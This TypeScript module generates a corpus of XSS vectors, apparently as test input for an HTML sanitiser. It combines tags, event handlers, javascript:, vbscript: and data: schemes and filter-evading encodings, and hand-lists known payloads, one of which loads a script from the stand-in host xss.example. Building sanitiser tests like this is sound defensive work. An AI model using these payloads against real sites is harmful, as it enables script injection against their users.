/**
 * A corpus of XSS vectors for article HTML: generated combinations of tags, event handlers,
 * URL-valued attributes, dangerous schemes and the encodings that slip past naive filters,
 * plus well-known vectors written out by hand.
 */

const TAGS = [
  'script',
  'img',
  'svg',
  'iframe',
  'object',
  'embed',
  'a',
  'body',
  'div',
  'math',
  'style',
  'link',
  'meta',
  'form',
  'input',
  'video',
  'audio',
  'details',
  'base',
  'marquee',
];
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'ONERROR'];
const URL_ATTRIBUTES: Array<[tag: string, attribute: string]> = [
  ['a', 'href'],
  ['img', 'src'],
  ['img', 'srcset'],
  ['form', 'action'],
  ['button', 'formaction'],
  ['svg><a', 'xlink:href'],
  ['table', 'background'],
  ['video', 'poster'],
  ['object', 'data'],
  ['blockquote', 'cite'],
];
const SCHEMES = [
  'javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
];
/** Ways to write a scheme that a browser still reads as that scheme. */
const ENCODINGS: Array<(url: string) => string> = [
  (u) => u,
  (u) => u.toUpperCase(),
  (u) => u.replace(':', '&#58;'),
  (u) => u.replace(/^(\w)/, '&#x$1;').replace('&#xj;', '&#x6A;').replace('&#xv;', '&#x76;').replace('&#xd;', '&#x64;'),
  (u) => u.replace(/^(\w{4})/, '$1\t'),
  (u) => u.replace(/^(\w{2})/, '$1\n'),
  (u) => ` \u0001${u}`,
  (u) =>
    u
      .split('')
      .map((c) => `&#${c.charCodeAt(0)};`)
      .join(''),
];

const KNOWN = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//xss.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background-image:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action="javascript:alert(1)" type=submit>',
  '<table background="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="livescript:alert(1)">x</a>',
  '<img src=`javascript:alert(1)`>',
  '<img """><script>alert(1)</script>">',
  '<a href="java\u0000script:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="https://ok.example/" onclick="alert(1)">fine link, bad handler</a>',
];

/** At least 500 vectors, generated and known, each a piece of article HTML. */
export function xssCorpus(): string[] {
  const vectors = new Set<string>(KNOWN);
  for (const tag of TAGS) {
    for (const event of EVENTS) vectors.add(`<${tag} ${event}=alert(1)>x</${tag}>`);
    vectors.add(`<${tag}>alert(1)</${tag}>`);
    vectors.add(`"><${tag} src=x onerror="alert(1)">`);
  }
  for (const [tag, attribute] of URL_ATTRIBUTES) {
    for (const scheme of SCHEMES) {
      for (const encode of ENCODINGS) vectors.add(`<${tag} ${attribute}="${encode(scheme)}">x</${tag.split('>').pop()}>`);
    }
  }
  return [...vectors];
}
